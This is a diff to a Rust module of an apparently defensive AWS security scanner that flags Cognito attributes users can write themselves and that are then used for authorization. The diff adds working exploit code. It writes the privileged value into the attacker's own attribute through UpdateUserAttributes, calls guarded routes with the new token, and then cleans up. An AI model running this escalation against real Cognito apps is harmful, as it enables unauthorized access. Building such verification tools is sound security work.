@@ -1,10 +1,11 @@
 //! An attribute of Cognito that its owner may write decides what its owner may do.
 
 use crate::entry::{Danger, Entries};
-use crate::review;
-use crate::{Profile, Risk};
+use crate::{Attack, Profile, Risk};
+use crate::{doors, guarded, review, source};
+use model::attack::{Outcome, PlantAt};
 use model::code::ReviewKind;
-use model::{App, Confidence, Edit, Finding, Fix, Node, Operation, Resource, Segment, Severity, Step};
+use model::{App, Confidence, Edit, Finding, Fix, Foothold, Node, Operation, Resource, Segment, Severity, Step, Target, TargetError};
 use serde_json::json;
 
 /// The risk.
@@ -13,7 +14,7 @@ pub const RISK: Risk = Risk {
     page: include_str!("risk.md"),
     profile: Profile::Default,
     check,
-    attack: Err("not written yet: up does not let users change their attributes"),
+    attack: Ok(Attack { foothold: Foothold::SignedInUser, plant, run }),
     detections: &[("writable_attribute_authorization/detect.yml", include_str!("detect.yml"))],
     without: &[],
 };
@@ -70,7 +71,10 @@ fn writers<'a>(app: &'a App, attribute: &str) -> Option<Vec<&'a Resource>> {
     }
     let may = |client: &&Resource| match client.properties.get("WriteAttributes") {
         None => true,
-        Some(list) => list.unknown().is_some() || list.items().iter().any(|a| a.str().is_none_or(|name| name == attribute)),
+        // An empty list is none: every attribute is writable then.
+        Some(list) => {
+            list.unknown().is_some() || list.items().is_empty() || list.items().iter().any(|a| a.str().is_none_or(|name| name == attribute))
+        }
     };
     let writers: Vec<&Resource> = clients.filter(may).collect();
     (!writers.is_empty()).then_some(writers)
@@ -97,4 +101,72 @@ fn fix(attribute: &str, writers: &[&Resource]) -> Option<Fix> {
         edits: writers.iter().map(edit).collect(),
         then: Some(format!("look who has written {attribute} already")),
     })
+}
+
+/// What a customer with the right keeps.
+fn plant(app: &App, findings: &[&Finding]) -> Result<PlantAt, String> {
+    let doors = doors::all(app);
+    let readable = findings.iter().any(|finding| !guarded::readable(app, &doors, finding).is_empty());
+    readable.then_some(PlantAt::Traffic).ok_or_else(|| "no GET route of a REST API stands behind the comparison".into())
+}
+
+/// Writes into the attacker's own account what the code looks for, signs in again, and takes it out afterwards.
+fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut Outcome) {
+    for finding in findings {
+        let Some(value) = compared(app, finding) else {
+            outcome.steps.push(format!("what `{}` is compared with is not written there", finding.symbol));
+            continue;
+        };
+        if let Err(error) = promoted(app, finding, value, target, outcome) {
+            return outcome.failed(&error);
+        }
+    }
+}
+
+/// What the attribute is compared with: the first other literal of the line.
+fn compared<'a>(app: &'a App, finding: &Finding) -> Option<&'a str> {
+    let line = app.sources.get(&finding.place.file)?.text.lines().nth(finding.place.line.checked_sub(1)? as usize)?;
+    let mut rest = line;
+    while let Some((_, after)) = rest.split_once(['"', '\'', '`']) {
+        let quote = rest.get(..rest.len() - after.len())?.chars().next_back()?;
+        let (literal, behind) = after.split_once(quote)?;
+        if !literal.is_empty() && literal != finding.symbol && !literal.starts_with("custom:") {
+            return Some(literal);
+        }
+        rest = behind;
+    }
+    None
+}
+
+fn promoted(app: &App, finding: &Finding, value: &str, target: &mut dyn Target, outcome: &mut Outcome) -> Result<(), TargetError> {
+    let doors = doors::all(app);
+    let attribute = &finding.symbol;
+    let ask = |target: &mut dyn Target, operation: &str, body: serde_json::Value| {
+        target.aws_unsigned("cognito-idp", &format!("AWSCognitoIdentityProviderService.{operation}"), &body)
+    };
+    for (index, session) in target.other_sessions()?.into_iter().enumerate() {
+        // Who has the right proves nothing by using it.
+        if source::claim(&session.id_token, attribute).as_deref() == Some(value) {
+            continue;
+        }
+        let token = &session.access_token;
+        let written = json!({"AccessToken": token, "UserAttributes": [{"Name": attribute, "Value": value}]});
+        let answer = ask(target, "UpdateUserAttributes", written)?;
+        if answer.status != 200 {
+            let says = String::from_utf8_lossy(&answer.body).into_owned();
+            outcome.steps.push(format!("UpdateUserAttributes {attribute}={value}: {} {says}", answer.status));
+            outcome.refused = Some(format!("{} {says}", answer.status));
+            continue;
+        }
+        outcome.steps.push(format!("UpdateUserAttributes {attribute}={value}, by a customer"));
+        if let Some(session) = target.other_sessions()?.into_iter().nth(index) {
+            for found in guarded::readable(app, &doors, finding) {
+                let answer = target.http(&found.api.id.to_string(), &guarded::get(found, "1", &session.id_token))?;
+                outcome.took(&answer);
+                outcome.steps.push(format!("{} with a new token: {}", found.name(), answer.status));
+            }
+        }
+        ask(target, "DeleteUserAttributes", json!({"AccessToken": token, "UserAttributeNames": [attribute]}))?;
+    }
+    Ok(())
 }
